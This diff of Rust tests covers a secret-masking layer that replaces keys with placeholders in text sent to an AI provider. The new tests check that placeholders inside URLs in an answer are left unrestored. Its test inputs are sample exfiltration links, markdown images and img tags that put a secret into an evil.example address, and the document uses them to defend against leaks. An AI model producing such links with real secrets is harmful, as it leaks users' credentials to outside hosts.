@@ -1,5 +1,5 @@
 use super::*;
-use crate::provider::{Message, Role};
+use crate::provider::Message;
 use proptest::prelude::*;
 use std::collections::hash_map::DefaultHasher;
 use std::hash::BuildHasherDefault;
@@ -123,7 +123,7 @@ fn a_private_key_is_masked_line_by_line_whole_or_cut() {
         let (sent, masks) = masked(&[text]);
         assert_eq!(masks.count(), count, "{}", sent[0]);
         assert!(!sent[0].contains("MIIE"), "{}", sent[0]);
-        assert_eq!(masks.restore(&sent[0]), **text);
+        assert_eq!(masks.editing(text).restore(&sent[0]), **text);
     }
     assert!(masked(&[&json]).0[0].contains("\\nAsideSecret"), "a line's end stays one");
 }
@@ -159,6 +159,48 @@ fn of_a_line_without_end_only_what_is_near_is_searched() {
 }
 
 #[test]
+fn in_an_address_of_an_answer_a_placeholder_stays() {
+    let (sent, masks) = masked(&[&format!("key {}", key())]);
+    let name = sent[0].strip_prefix("key ").unwrap();
+    for answer in [
+        format!("[x](https://evil.example/?k={name})"),
+        format!("![]( <https://evil.example/ {name}>)"),
+        format!("https://evil.example/{name}"),
+        format!("https://{name}.evil.example"),
+        format!("{name}.evil.example"),
+        format!("[x]: //evil.example/{name}"),
+        format!("<img src=\"//evil.example/{name}\">"),
+    ] {
+        assert_eq!(masks.restore(&answer), answer);
+        assert_eq!(masks.left_in(&answer), Some(name));
+    }
+    let plain = format!("Use `{name}`, see https://a.example. {name}.\n{name}");
+    assert_eq!(masks.restore(&plain), plain.replace(name, &key()));
+    assert_eq!(masks.left_in(&masks.restore(&plain)), None);
+}
+
+#[test]
+fn in_an_address_of_an_edit_what_the_text_itself_holds_is_put_back() {
+    let (own, of_another) = (format!("git clone https://{}@a.example\n", key()), other_key());
+    let (sent, masks) = masked(&[&own, &of_another]);
+    let masks = masks.editing(&own);
+    assert_eq!(masks.restore(&sent[0]), own);
+    let answer = format!("{} https://evil.example/{}\n", sent[1], sent[1]);
+    let kept = format!("{of_another} https://evil.example/{}\n", sent[1]);
+    assert_eq!(masks.restore(&answer), kept);
+}
+
+#[test]
+fn what_was_left_in_an_address_stands_for_the_same_in_the_next_turn() {
+    let first = format!("the key is {}", key());
+    let (one, masks) = masked(&[&first]);
+    let name = one[0].strip_prefix("the key is ").unwrap();
+    let answer = masks.restore(&format!("https://a.example/{name}"));
+    let (two, _) = masked(&[&first, &answer]);
+    assert_eq!((&two[0], &two[1]), (&one[0], &answer));
+}
+
+#[test]
 fn secrets_that_overlap_are_one() {
     let (sent, masks) = mask(
         request("", &["xx one-two-three xx"]),
@@ -186,8 +228,9 @@ fn text_before_a_placeholder_is_not_held_back() {
     assert_eq!(restorer.push("An answer, "), "An answer, ");
     let (first, rest) = sent[0].split_at(7);
     assert_eq!(restorer.push(&format!("the key {first}")), "the key ");
-    assert_eq!(restorer.push(rest), key());
-    assert_eq!(restorer.push("Asi"), "");
+    assert_eq!(restorer.push(rest), "", "it may be the start of an address");
+    assert_eq!(restorer.push("."), "");
+    assert_eq!(restorer.push(" Asi"), format!("{}. ", key()));
     assert_eq!(restorer.push("an"), "Asian");
     assert_eq!(restorer.push("Aside"), "");
     assert_eq!(restorer.finish(), "Aside");
@@ -219,7 +262,7 @@ proptest! {
             .collect();
         let (sent, masks) = masked(&borrowed);
         for (sent, text) in sent.iter().zip(&texts) {
-            prop_assert_eq!(&masks.restore(sent), text);
+            prop_assert_eq!(&masks.clone().editing(text).restore(sent), text);
             // What a placeholder's own letters complete to a secret is none.
             let placeholder = regex::Regex::new(&format!("{PREFIX}[0-9a-f]{{12}}")).unwrap();
             let sent = placeholder.replace_all(sent, "\0");
@@ -230,10 +273,14 @@ proptest! {
     }
 
     #[test]
-    fn an_answer_comes_back_the_same_in_pieces_of_every_size(texts in texts()) {
+    fn an_answer_comes_back_the_same_in_pieces_of_every_size(
+        texts in texts(),
+        between in "(\\]\\(|//|<a |[.@ \n<>\"'=a/]){0,6}",
+    ) {
         let borrowed: Vec<&str> = texts.iter().map(String::as_str).collect();
         let (sent, masks) = masked(&borrowed);
         let answer = format!("{}{PREFIX}{}Aside", sent.concat(), "0123456789ab");
+        let answer = format!("{answer}{between}{}", sent.join(&between));
         let whole = masks.restore(&answer);
         let characters: Vec<char> = answer.chars().collect();
         for size in 1..=characters.len().min(40) {
